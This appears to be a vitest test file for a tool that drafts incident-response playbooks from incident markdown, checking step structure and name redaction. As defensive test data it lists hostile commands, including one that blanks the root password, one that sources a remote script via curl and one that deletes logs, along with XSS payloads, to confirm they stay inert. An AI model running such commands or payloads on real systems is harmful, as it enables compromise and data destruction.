import { readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { checkPlaybook } from "@/lib/playbooks/check-playbook";
import { incidentToPlaybookDraft } from "./draft-playbook";
import { importIncidentMarkdown } from "./markdown/import-markdown";
import { parseIncidentInput } from "./schema";

const seed = (name: string) => importIncidentMarkdown(readFileSync(path.join("content", "incidents", name), "utf8"));

describe("incident → playbook draft", () => {
  it.each(["ray-actors-pending-creation-podman.md", "arc-job-containers-nixery.md"])(
    "drafts a valid playbook from %s",
    async (name) => {
      const incident = seed(name);
      const { draft, mdx } = await incidentToPlaybookDraft({ ...incident, id: "inc1" });
      const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
      expect(errors).toEqual([]);
      expect(playbook!.symptoms).toEqual(incident.symptoms.map((s) => s.replace(/sebkuepers/g, "$USER")));
      // One read and one change step per cause, plus the closing check.
      const steps = playbook!.steps;
      expect(steps).toHaveLength(incident.rootCauses.length * 2 + 1);
      for (let i = 0; i < incident.rootCauses.length; i++) {
        const [check, fix] = [steps[2 * i]!, steps[2 * i + 1]!];
        expect(check.risk).toBe("read");
        expect(fix.risk === "change" || fix.risk === "danger").toBe(true);
        expect(check.onFail).toBe(fix.id);
        expect(check.onPass).toBe(steps[2 * i + 2]!.id);
        expect(fix.onPass).toBe(check.id);
      }
      expect(mdx).toContain("](/incidents/inc1)");
    },
  );

  it("turns a recorded fix into the fix step and generalises the user's name", async () => {
    const { mdx } = await incidentToPlaybookDraft(seed("ray-actors-pending-creation-podman.md"));
    const steps = (await checkPlaybook("content/x.mdx", mdx)).playbook!.steps;
    const userns = steps.find((s) => s.id === "fix-podman-user-namespace-not-configured")!;
    expect(userns.code).toContain("sudo bash -c 'echo \"$USER:100000:65536\" >> /etc/subuid'");
    expect(mdx).not.toContain("sebkuepers");
    // The recorded old, wrong code is shown, not offered as the diagnostic.
    expect(steps.find((s) => s.id === "check-wrong-container-image-digest-type")!.code).not.toContain(
      "{{index .Digest}}",
    );
  });

  it("never drafts a recorded command that changes the host as the read-only check", async () => {
    const evidence = [
      `awk 'BEGIN{system("touch /tmp/x")}'`,
      "sed --in-place 's/^root:x:/root::/' /etc/passwd",
      ". <(curl -s http://x)",
      "curl -s http://x --output /root/.bashrc",
      "mount -o remount,ro /",
      "ip link set dev eth0 down",
      "hostname x",
      "date -s 2024-01-01",
      "journalctl --vacuum-time=1s",
      "find /var/log -name '*.gz' -exec rm {} \\;",
    ];
    const incident = parseIncidentInput({
      title: "Evidence that writes",
      severity: "SEV3",
      rootCauses: evidence.map((command, i) => ({
        title: `Cause ${i + 1}`,
        evidence: `\`\`\`bash\n${command}\n\`\`\``,
        fix: "```bash\nreboot\n```",
      })),
    });
    const { draft, mdx } = await incidentToPlaybookDraft(incident);
    const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
    expect(errors).toEqual([]);
    const checks = playbook!.steps.filter((s) => s.id.startsWith("check-"));
    expect(checks).toHaveLength(evidence.length);
    for (const check of checks) {
      expect(check.risk).toBe("read");
      expect(check.code).toMatch(/^# Draft: replace with a command/);
    }
    expect(playbook!.steps.filter((s) => s.id.startsWith("fix-")).map((s) => s.risk)).toEqual(
      evidence.map(() => "danger"),
    );
  });

  it("keeps hostile text inert in the draft", async () => {
    const incident = parseIncidentInput({
      title: "XSS <img src=x onerror=alert(1)>",
      severity: "SEV3",
      symptoms: ["<script>alert(1)</script>"],
      summary: "Summary {process.exit()} <script>alert(1)</script>",
      rootCauses: [
        { title: 'Cause "quoted" {x}', symptom: "<b onmouseover=alert(1)>x</b>", fix: "[click](javascript:alert(1))" },
      ],
      learnings: [{ text: "<iframe src=javascript:alert(1)>" }],
    });
    const { draft, mdx } = await incidentToPlaybookDraft(incident);
    const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
    expect(errors).toEqual([]);
    // Outside code blocks, every `<` of the hostile text is escaped, so MDX reads it as text.
    const prose = mdx.slice(mdx.indexOf("\n---\n") + 5).replace(/```[\s\S]*?```/g, "");
    expect(prose).not.toMatch(/(^|[^\\])<(script|img|b|iframe)\b/m);
    expect(prose).not.toMatch(/\]\(javascript:/);
    expect(playbook!.symptoms).toEqual(["<script>alert(1)</script>"]);
  });
});
